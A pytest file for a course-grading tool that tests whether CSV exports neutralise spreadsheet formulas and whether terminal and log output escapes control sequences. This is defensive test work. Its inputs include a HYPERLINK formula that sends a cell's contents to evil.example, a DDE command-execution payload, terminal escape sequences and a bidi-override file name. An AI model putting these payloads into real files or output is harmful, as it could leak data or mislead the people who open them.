"""What the instructor opens carries no live formulas or terminal control sequences.

CSV: every CSV the project writes (reports/scores.csv, checks.csv, quiz item analysis,
similarity pairs) goes through `grucourse.csv_safe`, which prefixes a text cell starting with
=, +, -, @, tab or CR with a quote (OWASP); read back, the cell is inert text.
Terminal: ids, file names and messages printed by the CLI or logged have ESC, CSI, OSC, C0/C1
controls and bidi overrides shown as visible escapes (`grucourse.terminal`).
"""
from __future__ import annotations

import csv
import io
import logging
from pathlib import Path

import nbformat
import numpy as np
import pytest
from nbgrader.api import Gradebook
from rich.console import Console

from grucourse import csv_safe
from grucourse.cli import main
from grucourse.pipeline.course_copy import copy_course
from grucourse.pipeline.report import build_report
from grucourse.pipeline.report_data import CheckRow, ScoreRow, write_csv
from grucourse.quiz.item_analysis import ItemStats
from grucourse.quiz.item_analysis import write_csv as write_items
from grucourse.quiz.simulate import make_quiz_submission
from grucourse.similarity.report import Row
from grucourse.similarity.report import write_csv as write_pairs
from grucourse.terminal import escape_log_records, printable, rich_text

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
CONTROLS = ["\x1b[2J", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\", "\x9b31m", "\r", "\x08",
            "\x00", "\x7f", "\u202e", "\u2066", "\u200f"]
QUIZ = "quiz_introduction"


def read_back(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_quoted(text: str) -> None:
    assert csv_safe.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["ada", "s001", "-0.1250", "+3", "1e-5", -3.5, 0, True, "a=b"])
def test_plain_text_and_numbers_stay_as_they_are(value) -> None:
    assert csv_safe.cell(value) == value


def test_every_csv_writer_escapes_and_reads_back_inert(tmp_path: Path) -> None:
    evil = FORMULAS[0]
    write_csv(tmp_path / "scores.csv", [ScoreRow(evil, "gru_gates", -1.0, 10.0)])
    write_csv(tmp_path / "checks.csv", [CheckRow("ann", "gru_gates", "cell", "@check", True, 1.0)])
    write_items([ItemStats("q1", 12, -0.25, -0.1, 0.0, ("=flag",), slot="+slot", choices="@a: 3")],
                tmp_path / "items.csv")
    write_pairs(tmp_path / "pairs.csv", [Row(1, evil, "+bob", 0.9, 0.8, 0.9, 0.85, 40, True, "")])
    assert read_back(tmp_path / "scores.csv")[1] == ["'" + evil, "gru_gates", "-1.0", "10.0"]
    assert read_back(tmp_path / "checks.csv")[1][3] == "'@check"
    assert read_back(tmp_path / "items.csv")[1] == ["q1", "'+slot", "12", "-0.2500", "-0.1000", "0.0000",
                                                     "'@a: 3", "'=flag"]
    assert read_back(tmp_path / "pairs.csv")[1][1:3] == ["'" + evil, "'+bob"]


@pytest.mark.slow
def test_reports_scores_csv_from_a_gradebook_holding_a_formula_id(tmp_path: Path) -> None:
    """Ids reach the gradebook from other tools too (formgrader, an older import): the report
    still writes them inert."""
    course = copy_course(tmp_path / "course")
    path = course.submission("ann", QUIZ)
    path.parent.mkdir(parents=True)
    nbformat.write(make_quiz_submission(course, QUIZ, "ann", np.random.default_rng(0), 1.0), path)
    assert main(["--course", str(course.root), "grade", QUIZ, "--workers", "1"]) == 0
    with Gradebook(course.db_url) as gradebook:
        gradebook.add_student(FORMULAS[0])
        gradebook.add_submission(QUIZ, FORMULAS[0])
    build_report(course)
    ids = [row[0] for row in read_back(course.reports / "scores.csv")[1:]]
    assert sorted(ids) == sorted(["'" + FORMULAS[0], "ann"])
    items = read_back(course.reports / f"{QUIZ}_items" / "item_analysis.csv")
    assert len(items) > 1 and not any(cell.startswith(csv_safe.FORMULA_START) and not csv_safe.NUMBER.fullmatch(cell)
                                      for row in items for cell in row)


@pytest.mark.parametrize("control", CONTROLS)
def test_printable_shows_every_control_as_an_escape(control: str) -> None:
    text = printable(f"ann{control}x")
    assert text.isascii() and text.isprintable(), repr(text)
    assert printable(f"line one\nline\ttwo{control}", keep_lines=True).count("\n") == 1


def test_rich_prints_escaped_text_literally() -> None:
    out = io.StringIO()
    Console(file=out, force_terminal=True, color_system=None).print(rich_text("[link=http://x]ann[/link]\x1b[2J"))
    assert out.getvalue() == "[link=http://x]ann[/link]\\x1b[2J\n"


def test_log_records_are_escaped(caplog) -> None:
    escape_log_records()
    with caplog.at_level(logging.INFO, logger="grucourse.test"):
        logging.getLogger("grucourse.test").info("Converting %s", "sub/\x1b]0;pwned\x07/x\u202e.ipynb")
    assert caplog.records[-1].getMessage() == "Converting sub/\\x1b]0;pwned\\x07/x\\u202e.ipynb"


@pytest.mark.slow
def test_grade_output_escapes_a_hostile_notebook_name(tmp_path: Path, capsys) -> None:
    """A plain student folder holding one notebook under a hostile name: graded, and the
    problem naming the file reaches the terminal escaped."""
    course = copy_course(tmp_path / "course")
    name = "\x1b[2J\x1b[1;1H\u202eall fine.ipynb"
    path = course.submitted / "ann" / QUIZ / name
    path.parent.mkdir(parents=True)
    nbformat.write(make_quiz_submission(course, QUIZ, "ann", np.random.default_rng(0), 1.0), path)
    assert main(["--course", str(course.root), "grade", QUIZ, "--workers", "1"]) == 0
    out = capsys.readouterr().out
    assert "\\x1b[2J\\x1b[1;1H\\u202eall fine.ipynb" in out
    assert not any(raw in out for raw in ("\x1b[2J", "\x1b[1;1H", "\u202e"))
